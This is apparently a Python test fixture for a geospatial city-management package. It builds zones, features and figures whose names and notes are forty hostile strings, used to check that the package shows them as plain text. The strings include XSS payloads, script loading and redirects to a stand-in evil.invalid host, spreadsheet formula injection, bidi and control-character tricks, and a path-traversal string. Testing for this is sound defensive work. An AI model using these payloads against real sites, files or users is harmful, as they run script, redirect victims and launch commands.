"""Forty texts that a source may bring, and that must be shown as they are and run nowhere."""

from __future__ import annotations

import re

import geopandas as gpd
import pandas as pd
import shapely

from geo_citymgmt._markup import visible_text

CRS = "EPSG:4549"
X0, Y0, SIDE = 550_000.0, 3_460_000.0, 3_000.0
COLUMNS = 8

STRINGS = (
    # markup that runs when it is read as HTML
    "<script>window.hacked=1</script>",
    "<SCRIPT SRC=//evil.invalid/x.js></SCRIPT>",
    "<img src=x onerror=window.hacked=1>",
    "<svg/onload=window.hacked=1>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "<a href=javascript:window.hacked=1>点这里</a>",
    "<body onload=alert(1)><details open ontoggle=alert(1)>",
    "<math><mtext></p><style><img src=x onerror=alert(1)>",
    "<meta http-equiv=refresh content=0;url=https://evil.invalid>",
    "<base href=https://evil.invalid/><link rel=stylesheet href=//evil.invalid/a.css>",
    # ends of what the text may stand in
    "</script><script>window.hacked=1</script>",
    "</style><script>window.hacked=1</script>",
    "</textarea></title></noscript><img src=x onerror=window.hacked=1>",
    "<!--<script>",
    "--><img src=x onerror=window.hacked=1>",
    "]]><script>window.hacked=1</script>",
    "\"><img src=x onerror=window.hacked=1>",
    "' onmouseover=window.hacked=1 x='",
    "</svg></text></td></table><script>alert(1)</script>",
    # ends of a string of JavaScript, JSON or a template
    "${window.hacked=1}",
    "`+(window.hacked=1)+`",
    "\"+(window.hacked=1)+\"",
    "'-alert(1)-'",
    "\\\");window.hacked=1;//",
    "\\u003cimg src=x onerror=window.hacked=1\\u003e",
    "*/window.hacked=1;/*",
    "{{ 7*7 }}{{ config }}",
    "{% raw %}{% for x in y %}",
    "&lt;script&gt;window.hacked=1&lt;/script&gt; &amp;",
    "&#60;img src=x onerror=window.hacked=1&#62;",
    # characters that act unseen
    "行\u2028window.hacked=1;\u2029尾",
    "合同\u202egpj.exe",
    "\u2066左\u2069右\u200f\u061c",
    "零\x00字符\x1b[31m\x7f",
    "\ufeff字节序",
    # formulas of a workbook, paths, and the merely long
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+HYPERLINK(\"https://evil.invalid\",\"x\")",
    "../../etc/passwd\\..\\C:\\Windows",
    "很长" * 300 + "<b>尾</b>",
)  # fmt: skip
assert len(set(STRINGS)) == 40


def shown(text: str) -> str:
    """Return a text as a reader sees it: unseen characters spelt out, white space as one."""
    return re.sub(r"\s+", " ", visible_text(text)).strip()


def cells() -> list[shapely.Polygon]:
    """Forty squares in eight columns."""
    corners = [(X0 + k % COLUMNS * SIDE, Y0 + k // COLUMNS * SIDE) for k in range(len(STRINGS))]
    return [shapely.box(x, y, x + SIDE, y + SIDE) for x, y in corners]


def hostile_zones() -> gpd.GeoDataFrame:
    """Forty zones, each named by one of the texts in both languages."""
    codes = pd.Index([f"3205{k:02d}" for k in range(len(STRINGS))], name="district_code")
    names = {"name_zh": STRINGS, "name_en": STRINGS}
    return gpd.GeoDataFrame(names, geometry=cells(), index=codes, crs=CRS)


def hostile_features(kind: str = "points", times: int = 1) -> gpd.GeoDataFrame:
    """Features with forty columns named by the texts, and each text once in every column."""
    squares = gpd.GeoSeries(cells(), crs=CRS)
    middle = squares.centroid
    shapes = {
        "points": middle,
        "lines": shapely.segmentize(
            [shapely.LineString([(p.x - 800, p.y), (p.x + 800, p.y)]) for p in middle], 400
        ),
        "areas": middle.buffer(700),
    }[kind]
    n = len(STRINGS)
    data = {name: [STRINGS[(row + col) % n] for row in range(n)]
            for col, name in enumerate(STRINGS)}  # fmt: skip
    one = gpd.GeoDataFrame({"text": STRINGS, **data}, geometry=list(shapes), crs=CRS)
    if times == 1:
        return one
    # The copies lie where no cell is clicked.
    copies = [one]
    for k in range(1, times):
        copy = one.copy()
        copy.geometry = copy.translate(900 + k % 30, 900 + k // 30)
        copies.append(copy)
    return pd.concat(copies, ignore_index=True)


def hostile_figures() -> pd.DataFrame:
    """Rows of `progress`, a name, a note and a reason of the source in each."""
    zones = hostile_zones()
    n = len(zones)
    return pd.DataFrame(
        {
            "indicator": "demolished_area", "published_id": None, "name_zh": " ".join(STRINGS),
            "name_en": " ".join(STRINGS), "layer": "illegal_construction", "level": "district",
            "zone_code": zones.index, "value": [float(k) for k in range(n)], "unit": "m2",
            "numerator": None, "denominator": None, "target": 20.0, "comparator": ">=",
            "deadline": pd.Timestamp("2022-12-31"), "attainment": [k / 20 for k in range(n)],
            "expected": None, "status": "behind", "period_start": pd.Timestamp("2022-01-01"),
            "as_of": pd.Timestamp("2022-06-30"), "basis": "events",
            "comparability": "comparable", "note_zh": STRINGS, "note_en": STRINGS,
        }
    )  # fmt: skip
